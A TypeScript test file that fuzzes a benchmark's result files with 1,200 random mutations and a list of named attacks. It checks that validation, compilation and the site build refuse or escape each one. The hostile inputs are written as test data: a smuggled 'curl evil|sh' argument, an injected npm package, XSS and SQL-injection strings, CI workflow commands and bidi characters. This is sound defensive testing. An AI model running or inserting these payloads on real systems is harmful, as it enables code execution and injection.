/**
 * The hostile corpus: 1,200 seeded random mutations of three valid results (a real completed run
 * of the sim with per-request records, a real failed run, and the SYNTHETIC fixture of
 * bench/lib/synthetic-results.ts). Every mutant is either refused by `servebench validate` with
 * problems of one line each, or compiles; compile and validate agree on which; and the site builds
 * (every page prerendered) from what compiled. Mutations: numbers to 0, negative, fractional, huge
 * (2^31, 2^53, 1e300); strings to empty, CR/LF/NUL, quotes and backslashes, markup, bidi controls,
 * look-alike letters, workflow commands, 10,000 characters; keys deleted or added; types swapped;
 * arrays emptied or duplicated. Beside them, the named attacks of the trust review (issue 23), each
 * made from a committed real CPU-lane result: each is refused naming its rule, or accepted and kept
 * out of every official statistic. Every accepted file also verifies (`servebench verify`), and
 * every refused one is invalid there too.
 */
import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { compile, type CompileReport } from '../../harness/store/compile.ts';
import { loadPrices } from '../../harness/store/prices.ts';
import { resultRelativePath } from '../../harness/contract/result-path.ts';
import type { RunResult } from '../../harness/contract/result.ts';
import { createRng } from '../../harness/lib/rng.ts';
import { startSimServer, type SimServer } from '../../harness/engines/sim/server.ts';
import { syntheticResult } from '../../bench/lib/synthetic-results.ts';
import { runCli } from '../cli/run-cli.ts';
import { writeFixturePrices } from './fixture-results.ts';
import { workloadSpecSha256 } from '../../harness/contract/workload-hash.ts';
import { listResultFiles } from '../../harness/store/result-files.ts';

const MUTANTS = 1200;
const REPO = fileURLToPath(new URL('../..', import.meta.url));
const root = mkdtempSync(join(tmpdir(), 'servebench-corpus-'));
const resultsDir = join(root, 'results');
const sims: SimServer[] = [];

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

const NUMBERS = (x: number) => [0, -1, -x, x + 0.5, x * 1e6, x / 1e6, 2 ** 31, 2 ** 31 + 1, 2 ** 53, 1e300, Number.MIN_VALUE];
const STRINGS = ['', 'a\rb', 'line\nbreak', 'nul\u0000here', '"quoted", \\back', '<script>alert(1)</script>', 'ab\u202Edc', 'vllм', '::stop-commands::x', '##[add-mask]y', '🚀 émoji', 'x'.repeat(10_000), '2026-13-45T99:00:00Z', 'null', 'a\u2028b', "'; DROP TABLE runs; --"];

interface Site {
  readonly parent: Json[] | { [key: string]: Json };
  readonly key: string | number;
  readonly shape: string;
}

/** Every node with its parent, grouped by shape (array indices as [*]) so huge arrays do not crowd out the rest. */
function sites(value: Json): Map<string, Site[]> {
  const byShape = new Map<string, Site[]>();
  const walk = (node: Json, shape: string) => {
    if (node === null || typeof node !== 'object') return;
    const entries: Array<[string | number, Json]> = Array.isArray(node) ? node.map((v, i) => [i, v]) : Object.entries(node);
    for (const [key, child] of entries) {
      const childShape = typeof key === 'number' ? `${shape}[*]` : `${shape}.${key}`;
      byShape.set(childShape, [...(byShape.get(childShape) ?? []), { parent: node, key, shape: childShape }]);
      walk(child, childShape);
    }
  };
  walk(value, '');
  return byShape;
}

function pick<T>(random: () => number, items: readonly T[]): T {
  return items[Math.floor(random() * items.length)]!;
}

function mutateOnce(doc: Json, random: () => number): string {
  const shapes = [...sites(doc).values()];
  const site = pick(random, pick(random, shapes));
  const parent = site.parent as Record<string | number, Json>;
  const current = parent[site.key]!;
  const roll = random();
  if (roll < 0.08 && !Array.isArray(site.parent)) {
    delete parent[site.key];
    return `delete ${site.shape}`;
  }
  if (roll < 0.12 && !Array.isArray(site.parent)) {
    (site.parent as Record<string, Json>)[`unknown_${Math.floor(random() * 100)}`] = 1;
    return `add a key beside ${site.shape}`;
  }
  if (roll < 0.18) {
    parent[site.key] = pick(random, [null, true, 7, 'text', [], {}] as Json[]);
    return `${site.shape} to another type`;
  }
  if (Array.isArray(current)) {
    if (random() < 0.5) parent[site.key] = [];
    else if (current.length > 0) parent[site.key] = [...current, structuredClone(current[0]!)];
    return `${site.shape} emptied or grown`;
  }
  if (typeof current === 'number') {
    parent[site.key] = pick(random, NUMBERS(current));
    return `${site.shape} = ${String(parent[site.key])}`;
  }
  if (typeof current === 'string') {
    parent[site.key] = random() < 0.5 ? pick(random, STRINGS) : `${current}${pick(random, STRINGS)}`;
    return `${site.shape} string`;
  }
  if (typeof current === 'boolean') {
    parent[site.key] = !current;
    return `${site.shape} flipped`;
  }
  parent[site.key] = pick(random, [0, '', false] as Json[]);
  return `${site.shape} from null`;
}

function place(text: string, fallback: string): string {
  let path: string;
  try {
    path = resultRelativePath(JSON.parse(text) as RunResult, text);
    // A mutated date can make a path no filesystem takes; such a file is placed anywhere (and refused for its path).
    if (!/^[\x21-\x7e]+$/.test(path) || path.includes('..')) path = fallback;
  } catch {
    path = fallback;
  }
  mkdirSync(dirname(join(resultsDir, path)), { recursive: true });
  writeFileSync(join(resultsDir, path), text);
  return path;
}

async function realRun(faults: Record<string, number>, extra: readonly string[]): Promise<RunResult> {
  const sim = await startSimServer({ port: 0, decodeBaseMs: 1, decodePerSeqMs: 0, prefillTokensPerS: 1e7, faults });
  sims.push(sim);
  const dir = mkdtempSync(join(root, 'run-'));
  const run = await runCli(['run', '--engine', 'sim', '--launcher', 'external', '--endpoint', sim.url, '--model', 'sim-model', '--workload', 'chat', '--num-prompts', '12', '--concurrency', '1,3', '--warmup', '0', '--tokenizer', 'none', '--results-dir', dir, ...extra], 90_000);
  const written = run.stderr.match(/wrote (\S+\.json)/)?.[1];
  if (!written) throw new Error(`run wrote no result (exit ${run.code}): ${run.stderr}`);
  return JSON.parse(readFileSync(written, 'utf8')) as RunResult;
}


/** A committed real result of the CPU lane (llama.cpp v0.4.0, cpu-chat): the base of the named attacks. */
function laneResult(): RunResult {
  const file = listResultFiles(join(REPO, 'results')).files.find((f) => f.relativePath.includes('llamacpp/dummy-llama-3.2-1b-instruct/cpu-2x-amd-epyc/cpu-chat'))!;
  return JSON.parse(readFileSync(file.absolutePath, 'utf8')) as RunResult;
}

/** Every point's duration divided by `factor` and its rates multiplied: the file's sums still agree, only the speed lies. */
function faster(r: RunResult, factor: number): void {
  for (const point of r.points) {
    const m = point.metrics;
    m.duration_s /= factor;
    for (const key of ['request_throughput', 'output_throughput', 'total_throughput', 'goodput'] as const) if (m[key] !== null) m[key] = m[key]! * factor;
  }
}

interface NamedAttack {
  readonly name: string;
  readonly edit: (r: RunResult) => void;
  /** The rule validate names, or null: accepted (and then kept out of the official statistics, where that is the point). */
  readonly rule: string | null;
}

const NAMED_ATTACKS: readonly NamedAttack[] = [
  { name: 'the Reproduce block runs another npm package', rule: 'recorded-command', edit: (r) => void (r.harness.command = ['--yes', '--package=evil-package', '--', ...r.harness.command]) },
  { name: 'an unknown flag smuggled into the command', rule: 'recorded-command', edit: (r) => void r.harness.command.push('--exec', 'curl evil|sh') },
  { name: 'git_commit as free text', rule: 'schema', edit: (r) => void (r.harness.git_commit = 'see https://evil.example/checkout') },
  { name: 'a bidi override in git_commit', rule: 'schema', edit: (r) => void (r.harness.git_commit = `${'a'.repeat(39)}\u202e`) },
  { name: 'an escape sequence in the tokenizer name', rule: 'name-characters', edit: (r) => void (r.workload.tokenizer!.name += '\u001b[31m') },
  { name: 'a bidi override in host.os (free text: shown escaped)', rule: null, edit: (r) => void (r.run!.host.os += ' \u202eevil') },
  { name: 'an engine name that reads as vllm', rule: 'known-engine', edit: (r) => void ((r.run!.engine.name = 'v1lm'), (r.harness.command[r.harness.command.indexOf('--engine') + 1] = 'v1lm')) },
  { name: 'a relabelled engine (page says vllm, command runs llama.cpp)', rule: 'command-agrees', edit: (r) => void (r.run!.engine.name = 'vllm') },
  { name: 'a community run that says official', rule: 'command-agrees', edit: (r) => void r.harness.command.splice(r.harness.command.indexOf('--source'), 2) },
  { name: 'a made-up version (accepted as unverified, never ranked)', rule: null, edit: (r) => void (r.run!.engine.version = 'v0.5.0') },
  { name: 'a CPU run scaled 30,000x', rule: 'roofline', edit: (r) => faster(r, 30_000) },
  { name: 'a spec changed under its hash', rule: 'spec-hash', edit: (r) => void (r.workload.spec.input = { dist: 'fixed', tokens: 128 }) },
  {
    name: 'an easier workload under the scenario name (re-hashed)',
    rule: 'workload-lengths',
    edit: (r) => {
      r.workload.spec.input = { dist: 'fixed', tokens: 2048 };
      r.workload.spec_sha256 = workloadSpecSha256(r.workload.spec);
    },
  },
  { name: 'a secret in a header', rule: 'credential', edit: (r) => void r.harness.command.push('--header', 'X-RapidAPI-Key: 0123456789abcdef0123456789abcdef') },
  {
    name: 'a 150,000-entry logit_bias (validates, so every later stage takes it)',
    rule: null,
    edit: (r) => {
      const bias = Object.fromEntries(Array.from({ length: 150_000 }, (_, i) => [String(i), -1]));
      r.workload.extra_body = { logit_bias: bias };
      r.harness.command.push('--extra-body', JSON.stringify({ logit_bias: bias }));
    },
  },
  { name: 'a half-speed community copy (accepted, never pooled)', rule: null, edit: (r) => void ((r.source = 'community'), (r.harness.command[r.harness.command.indexOf('--source') + 1] = 'community'), faster(r, 0.5)) },
];

const mutations = new Map<string, string>();
/** Where each named attack was placed. */
const attacks = new Map<string, NamedAttack>();
const placed = new Set<string>();
let validateProblems: Array<{ file: string; path: string; message: string; fix: string }> = [];
let report: CompileReport;

beforeAll(async () => {
  const bases: RunResult[] = [
    await realRun({}, ['--save-requests']),
    await realRun({ http500: 1 }, []),
    syntheticResult({ engine: 'vllm', version: '0.11.0', model: 'synthetic/llama-8b', gpu: 'Synthetic H100', gpuCount: 1, workload: 'chat', date: new Date('2026-03-01T12:00:00Z'), concurrencies: [1, 8], tpotMs: 10, ttftMs: 50, noise: 0.02, seed: 7 }),
  ];
  // Seeded (harness/lib/rng.ts), so a failing mutant is found again by its index.
  const stream = createRng(13, 'hostile-corpus');
  const random = () => stream.next();
  for (const base of bases) placed.add(place(`${JSON.stringify(base, null, 2)}\n`, 'unplaceable/base.json'));
  for (let i = 0; i < MUTANTS; i++) {
    const doc = structuredClone(bases[i % bases.length]!) as unknown as Json;
    // Its own run_id, so mutants are not each other's duplicates.
    const result = doc as unknown as RunResult;
    result.run_id = `${result.run_id.slice(0, 17)}${i.toString(16).padStart(8, '0')}`;
    const applied = Array.from({ length: 1 + Math.floor(random() * 3) }, () => mutateOnce(doc, random));
    const path = place(`${JSON.stringify(doc, null, 2)}\n`, `unplaceable/mutant-${i}.json`);
    placed.add(path);
    mutations.set(path, `mutant ${i}: ${applied.join('; ')}`);
  }
  const lane = laneResult();
  NAMED_ATTACKS.forEach((attack, i) => {
    const doc = structuredClone(lane);
    doc.run_id = `${doc.run_id.slice(0, 17)}a77ac${i.toString(16).padStart(3, '0')}`;
    attack.edit(doc);
    const path = place(`${JSON.stringify(doc, null, 2)}\n`, `unplaceable/attack-${i}.json`);
    placed.add(path);
    attacks.set(path, attack);
    mutations.set(path, `named attack: ${attack.name}`);
  });
  const validated = await runCli(['validate', '--results', resultsDir, '--json'], 300_000);
  validateProblems = (JSON.parse(validated.stdout) as { problems: typeof validateProblems }).problems;
  report = await compile({ resultsDir, outDir: join(root, 'data'), prices: loadPrices(writeFixturePrices(root)), now: new Date('2026-12-01T00:00:00Z') });
}, 600_000);

afterAll(async () => {
  await Promise.all(sims.map((sim) => sim.close()));
});

describe(`a hostile corpus of ${MUTANTS} mutants`, () => {
  it('each mutant is refused with one-line problems, or accepted', () => {
    expect(placed.size).toBeGreaterThan(MUTANTS * 0.95);
    for (const problem of validateProblems) {
      for (const text of [problem.message, problem.fix, problem.path]) expect(text, mutations.get(problem.file)).not.toMatch(/[\r\n]/);
    }
    const refused = new Set(validateProblems.map((p) => p.file));
    // The three bases are valid; the gate and the schema refuse most mutants, and some are harmless.
    expect(refused.size).toBeGreaterThan(MUTANTS * 0.5);
    expect(placed.size - refused.size).toBeGreaterThan(3);
    console.log(`corpus: ${placed.size} files, ${refused.size} refused by validate, ${placed.size - refused.size} accepted`);
  });

  it('compile takes exactly the files validate accepts, and refuses the rest with the same problems', () => {
    const byValidate = new Set(validateProblems.map((p) => p.file));
    const byCompile = new Set(report.problems.map((p) => p.file));
    expect([...byCompile].sort()).toEqual([...byValidate].sort());
    expect(report.ingest.valid).toBe(placed.size - byValidate.size);
  });

  it('every problem is one line that begins with the rule it names', () => {
    for (const problem of validateProblems) expect(problem.message, mutations.get(problem.file)).toMatch(/^\[[^\]\s]+\] /);
  });

  it.each(NAMED_ATTACKS.map((attack) => [attack.name, attack] as const))('named attack: %s', (_name, attack) => {
    const path = [...attacks].find(([, a]) => a === attack)![0];
    const rules = validateProblems.filter((p) => p.file === path).map((p) => /^\[([^\]]+)\]/.exec(p.message)![1]!);
    if (attack.rule === null) expect(rules).toEqual([]);
    else expect(rules.some((rule) => rule.startsWith(attack.rule!)), rules.join(', ')).toBe(true);
  });

  it('verify agrees: every file validate accepts verifies, every file it refuses is invalid (or not a result)', async () => {
    const verified = await runCli(['verify', '--results', resultsDir, resultsDir, '--json'], 600_000);
    const files = (JSON.parse(verified.stdout) as { files: Array<{ file: string; status: string }> }).files;
    const refused = new Set(validateProblems.map((p) => p.file));
    const byFile = new Map(files.map((f) => [f.file, f.status]));
    for (const path of placed) {
      if (path.startsWith('unplaceable/')) continue;
      // A refused file is invalid, or not a result at all (no schema_version: verify's "bad input").
      if (refused.has(path)) expect(['invalid', 'bad-input'], mutations.get(path) ?? path).toContain(byFile.get(path));
      else expect(byFile.get(path), mutations.get(path) ?? path).toBe('valid');
    }
  }, 600_000);

  it('the site builds from what compiled (every page prerendered)', async () => {
    await new Promise<void>((resolve, reject) => {
      execFile(process.execPath, [join(REPO, 'node_modules/astro/bin/astro.mjs'), 'build'], { cwd: REPO, env: { ...process.env, ASTRO_TELEMETRY_DISABLED: '1', SERVEBENCH_DATA: join(root, 'data'), SERVEBENCH_SITE_OUT: join(root, 'site') }, timeout: 300_000, maxBuffer: 64 * 1024 * 1024 }, (error, _stdout, stderr) =>
        error ? reject(new Error(`astro build failed: ${stderr.slice(-4000)}`)) : resolve(),
      );
    });
    const home = readFileSync(join(root, 'site', 'index.html'), 'utf8');
    expect(home).not.toMatch(/<script>alert\(1\)<\/script>/);
    // Free text reaches the pages escaped visibly: no page holds a raw control or bidi character.
    const pages = readdirSync(join(root, 'site'), { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.html'));
    expect(pages.length).toBeGreaterThan(3);
    for (const page of pages) expect(readFileSync(join(root, 'site', page), 'utf8'), page).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u202a-\u202e\u2066-\u2069]/);
  }, 400_000);
});
